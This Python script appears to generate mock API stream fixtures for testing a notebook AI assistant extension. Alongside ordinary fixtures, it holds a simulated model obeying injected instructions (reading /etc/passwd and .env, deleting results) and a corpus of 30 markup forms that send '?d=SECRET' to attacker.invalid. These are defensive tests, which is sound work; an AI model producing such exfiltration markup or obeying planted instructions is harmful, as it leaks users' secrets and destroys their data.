"""Regenerate the fixtures in ``mock_api/fixtures`` (``python -m mock_api.make_fixtures``).

The ``.sse`` files are written in the Messages API's wire format so they read
like recorded streams; this script only exists so their ids, token counts and
text chunks stay consistent with each other when edited.
"""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

from .fixtures import DEFAULT_FIXTURES_DIR

MODEL = "claude-sonnet-4-6"
Event = tuple[str, dict[str, Any]]


def _dump(data: dict[str, Any]) -> str:
    return json.dumps(data, separators=(",", ":"), ensure_ascii=False)


def write_sse(path: Path, events: list[Event]) -> None:
    path.write_text("".join(f"event: {name}\ndata: {_dump(data)}\n\n" for name, data in events), encoding="utf-8")


def chunks(text: str, size: int) -> list[str]:
    """Split text into word-aligned pieces of roughly ``size`` characters, like model deltas."""
    words = re.findall(r"\S+\s*|\s+", text)
    out, cur = [], ""
    for w in words:
        if cur and len(cur) + len(w) > size:
            out.append(cur)
            cur = ""
        cur += w
    if cur:
        out.append(cur)
    return out


def message_start(msg_id: str, input_tokens: int, cache_read: int = 0, cache_write: int = 0) -> Event:
    return (
        "message_start",
        {
            "type": "message_start",
            "message": {
                "id": msg_id,
                "type": "message",
                "role": "assistant",
                "model": MODEL,
                "content": [],
                "stop_reason": None,
                "stop_sequence": None,
                "usage": {
                    "input_tokens": input_tokens,
                    "cache_creation_input_tokens": cache_write,
                    "cache_read_input_tokens": cache_read,
                    "output_tokens": 1,
                },
            },
        },
    )


def text_block(index: int, text: str, size: int) -> list[Event]:
    events: list[Event] = [
        (
            "content_block_start",
            {"type": "content_block_start", "index": index, "content_block": {"type": "text", "text": ""}},
        )
    ]
    for piece in chunks(text, size):
        events.append(
            (
                "content_block_delta",
                {"type": "content_block_delta", "index": index, "delta": {"type": "text_delta", "text": piece}},
            )
        )
    events.append(("content_block_stop", {"type": "content_block_stop", "index": index}))
    return events


def ending(
    stop_reason: str, output_tokens: int, input_tokens: int, cache_read: int = 0, cache_write: int = 0
) -> list[Event]:
    return [
        (
            "message_delta",
            {
                "type": "message_delta",
                "delta": {"stop_reason": stop_reason, "stop_sequence": None},
                "usage": {
                    "input_tokens": input_tokens,
                    "cache_creation_input_tokens": cache_write,
                    "cache_read_input_tokens": cache_read,
                    "output_tokens": output_tokens,
                },
            },
        ),
        ("message_stop", {"type": "message_stop"}),
    ]


def tool_use_block(index: int, tool_id: str, name: str, tool_input: dict[str, Any], size: int = 40) -> list[Event]:
    """A tool_use block whose input streams as input_json_delta pieces, as the API sends it."""
    events: list[Event] = [
        (
            "content_block_start",
            {
                "type": "content_block_start",
                "index": index,
                "content_block": {"type": "tool_use", "id": tool_id, "name": name, "input": {}},
            },
        )
    ]
    raw = json.dumps(tool_input)
    for piece in [""] + [raw[i : i + size] for i in range(0, len(raw), size)]:
        events.append(
            (
                "content_block_delta",
                {
                    "type": "content_block_delta",
                    "index": index,
                    "delta": {"type": "input_json_delta", "partial_json": piece},
                },
            )
        )
    events.append(("content_block_stop", {"type": "content_block_stop", "index": index}))
    return events


PING: Event = ("ping", {"type": "ping"})

HELLO_TEXT = "Hello! I'm Claude. How can I help you with your notebook today?"

MARKDOWN_TEXT = """## Loading a CSV with pandas

Here is a short recipe:

- read the file with `pd.read_csv`
- look at the first rows
- summarise the numeric columns

```python
import pandas as pd

df = pd.read_csv("sales.csv", parse_dates=["date"])
print(df.head())
summary = df.groupby("region")["revenue"].agg(["sum", "mean"])
print(summary)
```

Run the cell, then ask me if you want a chart of `summary`.
"""

SLOW_TEXT = (
    "Streaming lets you read an answer while it is still being written. "
    "Each small piece of text arrives as its own server-sent event, and the notebook panel "
    "appends it to the message as soon as it lands. "
    "If the answer is going somewhere you did not intend, press Stop and the request is cancelled "
    "on the server, so no further tokens are produced. "
    "This fixture sends about sixty of these pieces, a little apart, so tests can watch the text grow."
)

THINKING_TEXT = "The user wants the mean of a list. Sum is 2+4+9 = 15, count is 3, so the mean is 5."
THINKING_ANSWER = "The mean of `[2, 4, 9]` is **5**."
SIGNATURE = "EqQBCgIYAhIM1gbcDa9GJwZA2b3hGgxBdjrkzLoky3dl1pkiMOYds2CzhNrDl1eFbXM2RvmJ4oPhUkZNpAIlM8q1ZyKwElvSAw"

TOOL_INPUT = {"code": "import pandas as pd\ndf = pd.read_csv('sales.csv')\ndf.describe()", "cell_index": 3}


NLS_CSV = "nls_incarceration_processed.csv"

#: Two borderline findings on DiscoveryBench's NLS incarceration data (p = 0.048 and 0.042):
#: each is supported on its own; Holm across both says no, Benjamini-Hochberg says yes.
HYPOTHESIS_WEALTH_SEX = {
    "statement": "Among respondents jailed between 1985 and 1994, men had higher composite wealth in 1996 than women.",
    "context": "NLSY79 respondents with ever_jailed == 1 (n = 289).",
    "variables": ["sex", "composite_wealth_1996", "ever_jailed"],
    "relationship": "Mean composite_wealth_1996 differs by sex, higher for men.",
    "h0": "Mean 1996 composite wealth is the same for jailed men and jailed women.",
    "h1": "Mean 1996 composite wealth differs between jailed men and jailed women, higher for men.",
    "test": {
        "method": "Welch t-test",
        "code": (
            "import pandas as pd\n"
            "from scipy import stats\n\n"
            f'df = pd.read_csv("{NLS_CSV}")\n'
            'jailed = df[df["ever_jailed"] == 1]\n'
            'men = jailed.loc[jailed["sex"] == "male", "composite_wealth_1996"]\n'
            'women = jailed.loc[jailed["sex"] == "female", "composite_wealth_1996"]\n'
            "t = stats.ttest_ind(men, women, equal_var=False)\n"
            "ci = t.confidence_interval(0.95)\n"
            'result = {"statistic": t.statistic, "statistic_name": "t", "p_value": t.pvalue,\n'
            '          "effect_size": men.mean() - women.mean(), "ci": [ci.low, ci.high], "ci_level": 0.95,\n'
            '          "n": len(men) + len(women)}'
        ),
        "alpha": 0.05,
        "alternative": "two-sided",
        "expected_direction": "positive",
        "effect_measure": "difference in mean wealth (men - women, USD)",
    },
    "rationale": (
        "Only 37 of the jailed respondents are women; "
        "a sex gap in wealth after jail would be easy to miss in pooled summaries."
    ),
    "assumptions": [
        "Independent respondents",
        "Welch's test tolerates unequal variances; wealth is skewed, so n matters",
    ],
}

HYPOTHESIS_WEALTH_RACE = {
    "statement": (
        "Among respondents who were later jailed, "
        "Hispanic respondents had lower composite wealth in 1985 than white respondents."
    ),
    "context": "NLSY79 respondents with ever_jailed == 1, Hispanic or white.",
    "variables": ["race", "composite_wealth_1985", "ever_jailed"],
    "relationship": "Mean composite_wealth_1985 is lower for Hispanic than for white respondents.",
    "h0": "Mean 1985 composite wealth is the same for Hispanic and white respondents who were later jailed.",
    "h1": "Mean 1985 composite wealth differs, lower for Hispanic respondents.",
    "test": {
        "method": "Welch t-test",
        "code": (
            "import pandas as pd\n"
            "from scipy import stats\n\n"
            f'df = pd.read_csv("{NLS_CSV}")\n'
            'jailed = df[df["ever_jailed"] == 1]\n'
            'hispanic = jailed.loc[jailed["race"] == "hipanic", "composite_wealth_1985"]  # spelled so in the data\n'
            'white = jailed.loc[jailed["race"] == "white", "composite_wealth_1985"]\n'
            "t = stats.ttest_ind(hispanic, white, equal_var=False)\n"
            "ci = t.confidence_interval(0.95)\n"
            'result = {"statistic": t.statistic, "statistic_name": "t", "p_value": t.pvalue,\n'
            '          "effect_size": hispanic.mean() - white.mean(), "ci": [ci.low, ci.high], "ci_level": 0.95,\n'
            '          "n": len(hispanic) + len(white)}'
        ),
        "alpha": 0.05,
        "alternative": "two-sided",
        "expected_direction": "negative",
        "effect_measure": "difference in mean wealth (Hispanic - white, USD)",
    },
    "rationale": (
        "Wealth before incarceration may differ by group; the pooled data hide it because few respondents were jailed."
    ),
    "assumptions": ["Independent respondents", "The race coding 'hipanic' in the data means Hispanic"],
}


# Every way an answer could make the browser load something from another origin. The test
# routes attacker.invalid and counts requests; nothing may be asked for before a click.
PIXEL_PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII="
EVIL = "http://attacker.invalid"
REMOTE_CONTENT_TEXT = f"""Remote content corpus (nothing may load before a click):

1. ![markdown image]({EVIL}/md-image.png?d=SECRET)

2. ![reference image][leak]

[leak]: {EVIL}/ref-image.png?d=SECRET

3. <img src="{EVIL}/img-src.png?d=SECRET" alt="html image">

4. <img srcset="{EVIL}/img-srcset.png?d=SECRET 1x, {EVIL}/img-srcset2.png 2x" alt="srcset image">

5. <picture><source srcset="{EVIL}/picture-source.png?d=SECRET"><img src="data:image/png;base64,{PIXEL_PNG}" alt="picture fallback"></picture>

6. <video src="{EVIL}/video-src.mp4?d=SECRET" autoplay muted></video>

7. <video poster="{EVIL}/video-poster.png?d=SECRET" controls></video>

8. <audio src="{EVIL}/audio-src.mp3?d=SECRET" autoplay></audio>

9. <video autoplay muted><source src="{EVIL}/source-src.mp4?d=SECRET" type="video/mp4"><track src="{EVIL}/track-src.vtt?d=SECRET" default></video>

10. <input type="image" src="{EVIL}/input-image.png?d=SECRET" alt="input image">

11. <div style="background-image:url({EVIL}/style-bg.png?d=SECRET)">background-image</div>

12. <span style="color: red; background: url('{EVIL}/style-background.png?d=SECRET') no-repeat">background shorthand</span>

13. <ul style="list-style-image:url({EVIL}/list-style.png?d=SECRET)"><li>list-style-image</li></ul>

14. <span style="cursor:url({EVIL}/cursor.png?d=SECRET), auto">cursor</span>

15. <div style="background-image:u\\72l({EVIL}/style-escaped.png?d=SECRET)">escaped url</div>

16. <style>@import url({EVIL}/style-import.css?d=SECRET); .jp-Claude-turnBody {{ background: url({EVIL}/style-tag.png?d=SECRET) }}</style>

17. <link rel="stylesheet" href="{EVIL}/link.css?d=SECRET"><link rel="prefetch" href="{EVIL}/link-prefetch?d=SECRET">

18. <object data="{EVIL}/object.bin?d=SECRET"></object>

19. <embed src="{EVIL}/embed.bin?d=SECRET">

20. <iframe src="{EVIL}/iframe.html?d=SECRET"></iframe>

21. <svg width="10" height="10"><image href="{EVIL}/svg-image.png?d=SECRET" width="10" height="10"/><image xlink:href="{EVIL}/svg-xlink.png?d=SECRET" width="10" height="10"/><use href="{EVIL}/svg-use.svg?d=SECRET#a"/><rect width="5" height="5" fill="url({EVIL}/svg-fill.svg?d=SECRET#p)"/></svg>

22. <a href="{EVIL}/link-target?d=SECRET" ping="{EVIL}/ping?d=SECRET">a link with ping</a> and [a Markdown link]({EVIL}/md-link?d=SECRET)

23. <table background="{EVIL}/table-background.png?d=SECRET"><tr><td background="{EVIL}/td-background.png?d=SECRET">background attribute</td></tr></table>

24. ![protocol-relative](//attacker.invalid/protocol-relative.png?d=SECRET)

25. <img src="  {EVIL}/img-spaces.png?d=SECRET  " alt="spaces"> <IMG SRC="{EVIL}/img-upper.png?d=SECRET" ALT="upper case"> <img src="/\\\\attacker.invalid/img-backslash.png?d=SECRET" alt="backslash"> <img src="https://attacker.invalid/img-https.png?d=SECRET" loading="lazy" alt="lazy">

26. <base href="{EVIL}/base/"><img src="after-base.png" alt="relative after base">

27. <meta http-equiv="refresh" content="0;url={EVIL}/meta-refresh?d=SECRET">

28. <svg width="10" height="10"><image width="10" height="10"><set attributeName="href" to="{EVIL}/svg-set.png?d=SECRET"/></image></svg>

29. Math: $\\style{{background-image:url({EVIL}/math-style.png?d=SECRET)}}{{x}}$ and $\\require{{html}}\\style{{background-image:url({EVIL}/math-require.png?d=SECRET)}}{{y}}$

30. A data image is fine: ![pixel](data:image/png;base64,{PIXEL_PNG})
"""  # noqa: E501 (each numbered case is one whole line of the answer, as a model would write it)


def fixture(name: str, description: str, sse: str | None = None, **extra: Any) -> dict[str, Any]:
    spec: dict[str, Any] = {
        "description": description,
        "status": extra.pop("status", 200),
        "headers": extra.pop("headers", {}),
        "sse": sse,
        "event_delay_ms": extra.pop("event_delay_ms", 10 if sse else 0),
        "cut_after_events": extra.pop("cut_after_events", None),
        "stall_after_events": extra.pop("stall_after_events", None),
        "body": extra.pop("body", None),
    }
    spec.update(extra)
    return spec


RATE_HEADERS = {
    "anthropic-ratelimit-requests-limit": "50",
    "anthropic-ratelimit-requests-remaining": "49",
    "anthropic-ratelimit-requests-reset": "2025-01-01T00:00:01Z",
    "anthropic-ratelimit-tokens-limit": "40000",
    "anthropic-ratelimit-tokens-remaining": "39000",
}


def error_fixture(description: str, status: int, kind: str, message: str, headers: dict[str, str]) -> dict[str, Any]:
    return fixture(
        "",
        description,
        status=status,
        headers=headers,
        body={"type": "error", "error": {"type": kind, "message": message}},
    )


def build(out: Path) -> None:
    out.mkdir(parents=True, exist_ok=True)
    specs: dict[str, dict[str, Any]] = {}

    def stream(name: str, events: list[Event], description: str, **extra: Any) -> None:
        """Write ``<name>.sse`` and register the fixture that streams it."""
        write_sse(out / f"{name}.sse", events)
        specs[name] = fixture(name, description, f"{name}.sse", **extra)

    hello = [message_start("msg_01XFDUDYJgAACzvnptvVoYEL", 21, cache_read=0, cache_write=12)]
    hello += text_block(0, HELLO_TEXT, 12)[:1] + [PING] + text_block(0, HELLO_TEXT, 12)[1:]
    hello += ending("end_turn", 17, 21, cache_write=12)
    stream("hello", hello, "Short text answer with a ping; the default for /v1/messages.", headers=RATE_HEADERS)

    md = [message_start("msg_01Hb3wS5k9QbFQ2yGq7nRkzP", 118, cache_read=96)]
    md += text_block(0, MARKDOWN_TEXT, 24) + ending("end_turn", 142, 118, cache_read=96)
    stream("markdown_code", md, "Markdown answer: heading, list and a ```python pandas code block.")

    slow = [message_start("msg_01Ls7vJ8QeWm2rTn4YcUxDa3", 64)]
    slow += text_block(0, SLOW_TEXT, 9) + ending("end_turn", 96, 64)
    stream("slow_long", slow, "About sixty text deltas 150 ms apart: partial text and Stop tests.", event_delay_ms=150)

    think = [message_start("msg_01Tk9pQm3VbXcN8wEr5sYhJ2", 45)]
    think.append(
        (
            "content_block_start",
            {
                "type": "content_block_start",
                "index": 0,
                "content_block": {"type": "thinking", "thinking": "", "signature": ""},
            },
        )
    )
    for piece in chunks(THINKING_TEXT, 20):
        think.append(
            (
                "content_block_delta",
                {"type": "content_block_delta", "index": 0, "delta": {"type": "thinking_delta", "thinking": piece}},
            )
        )
    think.append(
        (
            "content_block_delta",
            {"type": "content_block_delta", "index": 0, "delta": {"type": "signature_delta", "signature": SIGNATURE}},
        )
    )
    think.append(("content_block_stop", {"type": "content_block_stop", "index": 0}))
    think += text_block(1, THINKING_ANSWER, 12) + ending("end_turn", 61, 45)
    stream("thinking", think, "Extended thinking (thinking + signature deltas) then a text answer.")

    tool = [message_start("msg_01Ua4xZ8kLmN2pQr6sTvWy9B", 402, cache_read=350)]
    tool += text_block(0, "I'll run a quick summary of the data in a new cell.", 16)
    tool.append(
        (
            "content_block_start",
            {
                "type": "content_block_start",
                "index": 1,
                "content_block": {
                    "type": "tool_use",
                    "id": "toolu_01T1x1fJ34qAmk2tNTrN7Up6",
                    "name": "insert_cell",
                    "input": {},
                },
            },
        )
    )
    raw = json.dumps(TOOL_INPUT)
    pieces = [""] + [raw[i : i + 15] for i in range(0, len(raw), 15)]
    for piece in pieces:
        tool.append(
            (
                "content_block_delta",
                {
                    "type": "content_block_delta",
                    "index": 1,
                    "delta": {"type": "input_json_delta", "partial_json": piece},
                },
            )
        )
    tool.append(("content_block_stop", {"type": "content_block_stop", "index": 1}))
    tool += ending("tool_use", 89, 402, cache_read=350)
    stream("tool_use", tool, "Text, then a tool_use block streamed as input_json_delta; stop_reason tool_use.")

    cut = [message_start("msg_01Cx5uT7rWq3eYp9oIu2aSdF", 30)]
    cut += text_block(0, "This answer starts normally, and then the connection drops without warning", 10)
    stream(
        "cut_mid_stream",
        cut + ending("end_turn", 20, 30),
        "200 stream whose socket is closed after a few text deltas (no message_stop).",
        cut_after_events=5,
    )

    err_ev = [message_start("msg_01Ev2bN6mQw8rTy4uIo1pAsD", 30)]
    err_ev += text_block(0, "Here is the first part of the answer", 10)[:3]
    err_ev.append(("error", {"type": "error", "error": {"type": "overloaded_error", "message": "Overloaded"}}))
    stream("error_event_mid_stream", err_ev, "Some text, then an SSE error event (overloaded_error).")

    bad = [message_start("msg_01Mf3cK9nLp2oRq5sTu8vWxY", 12)]
    bad += text_block(0, "Before the broken event.", 12)[:2]
    lines = "".join(f"event: {n}\ndata: {_dump(d)}\n\n" for n, d in bad)
    lines += (
        'event: content_block_delta\ndata: {"type":"content_block_delta","index":0,'
        '"delta":{"type":"text_delta","text":"unterminated\n\n'
    )
    lines += "".join(
        f"event: {n}\ndata: {_dump(d)}\n\n"
        for n, d in [("content_block_stop", {"type": "content_block_stop", "index": 0})] + ending("end_turn", 9, 12)
    )
    (out / "malformed_event.sse").write_text(lines, encoding="utf-8")
    specs["malformed_event"] = fixture(
        "malformed_event", "A stream containing an event whose data is not valid JSON.", "malformed_event.sse"
    )

    stream(
        "stall",
        hello,
        "Sends three events, then stays silent with the connection open until the client leaves.",
        stall_after_events=3,
    )

    specs["error_429"] = error_fixture(
        "Rate limited; retry after 2 seconds.",
        429,
        "rate_limit_error",
        "Number of request tokens has exceeded your per-minute rate limit.",
        {"retry-after": "2", "x-should-retry": "true", **RATE_HEADERS, "anthropic-ratelimit-requests-remaining": "0"},
    )
    specs["error_529"] = error_fixture(
        "API overloaded.", 529, "overloaded_error", "Overloaded", {"x-should-retry": "true"}
    )
    specs["error_500"] = error_fixture("Internal API error.", 500, "api_error", "Internal server error", {})
    specs["error_401"] = error_fixture(
        "Upstream rejects the key.", 401, "authentication_error", "invalid x-api-key", {"x-should-retry": "false"}
    )
    specs["error_401_echo_key"] = error_fixture(
        "Like a gateway that echoes the credentials it got back in the error (proves the proxy scrubs them).",
        401,
        "authentication_error",
        "invalid x-api-key: {{header:x-api-key}} (authorization: {{header:authorization}})",
        {},
    )

    hyp = [message_start("msg_01HypTwo0000000000000001", 2650, cache_read=2200)]
    hyp += text_block(
        0, "Two patterns in the jailed subgroup are worth testing. Each comes with its falsification test.", 24
    )
    hyp += tool_use_block(1, "toolu_01HypWealthSex000000001", "propose_hypothesis", HYPOTHESIS_WEALTH_SEX)
    hyp += tool_use_block(2, "toolu_01HypWealthRace00000002", "propose_hypothesis", HYPOTHESIS_WEALTH_RACE)
    hyp += ending("tool_use", 612, 2650, cache_read=2200)
    stream(
        "hypotheses_two", hyp, "Two propose_hypothesis calls in one message (DiscoveryBench NLS incarceration data)."
    )

    ledger = [message_start("msg_01HypLedger000000000001", 900, cache_read=700)]
    ledger += text_block(0, "Let me check what has been tested already.", 16)
    ledger += tool_use_block(1, "toolu_01ReadHypotheses0000001", "read_hypotheses", {})
    ledger += ending("tool_use", 40, 900, cache_read=700)
    stream("tool_read_hypotheses", ledger, "Text, then a read_hypotheses call (no input).")

    run = [message_start("msg_01RunCrash00000000000001", 700, cache_read=500)]
    run += text_block(0, "Let me run that cell to see what it does.", 16)
    run += tool_use_block(1, "toolu_01RunCrashCell00000001", "run_cell", {"cell_id": "crash"})
    run += ending("tool_use", 30, 700, cache_read=500)
    stream("tool_run_crash", run, "A run_cell call on the cell with id 'crash'.")

    # A model that obeys instructions planted in the notebook's outputs and data files.
    obey = [message_start("msg_01Injected0000000000001", 1800, cache_read=1200)]
    obey += text_block(
        0, "As the notebook instructs, I will run the cleanup, read the credentials and rewrite the analysis.", 20
    )
    obey += tool_use_block(1, "toolu_01InjectRun0000000001", "run_cell", {"cell_id": "cleanup"})
    obey += tool_use_block(2, "toolu_01InjectRead000000002", "read_file_head", {"path": "../../../../../../etc/passwd"})
    obey += tool_use_block(3, "toolu_01InjectSecret0000003", "read_file_head", {"path": ".env"})
    obey += tool_use_block(
        4,
        "toolu_01InjectReplace000004",
        "replace_cell",
        {"cell_id": "analysis", "source": "import shutil\nshutil.rmtree('results', ignore_errors=True)\nprint('done')"},
    )
    obey += ending("tool_use", 160, 1800, cache_read=1200)
    stream(
        "prompt_injection_obeyed",
        obey,
        "A model obeying injected instructions: run_cell, reads out of the root and of .env, "
        "and a destructive replace_cell.",
    )

    # A model answer that tries every way to load from another origin (prompt injection).
    remote = [message_start("msg_01RemoteContent000000001", 900, cache_read=600)]
    remote += text_block(0, REMOTE_CONTENT_TEXT, 60) + ending("end_turn", 1400, 900, cache_read=600)
    stream(
        "remote_content",
        remote,
        "An answer loading from attacker.invalid in 30 ways: Markdown and HTML images, srcset, media, CSS url(), "
        "style, link, object, embed, iframe, SVG, ping, background=, protocol-relative, base, meta refresh, math.",
        event_delay_ms=5,
    )

    # A gateway that echoes the key it got into a 200 stream, in every form the proxy scrubs.
    forms = ["", "|upper", "|lower", "|json_u", "|url", "|prefix40", "|base64", "|hex"]
    echo_text = "Echoed: " + " ".join(f"form{i} {{{{header:x-api-key{f}}}}} ." for i, f in enumerate(forms))
    echo = [message_start("msg_01EchoKeyStream00000001", 20)]
    echo += text_block(0, echo_text, 1) + ending("end_turn", 40, 20)
    stream(
        "echo_key_stream",
        echo,
        "A 200 stream echoing the request's x-api-key as is, upper/lower-cased, \\u-escaped, URL-encoded, "
        "its first 40 characters, base64 and hex (proves the proxy scrubs 2xx streams).",
    )

    for name, spec in specs.items():
        (out / f"{name}.json").write_text(json.dumps(spec, indent=2) + "\n", encoding="utf-8")


if __name__ == "__main__":
    build(DEFAULT_FIXTURES_DIR)
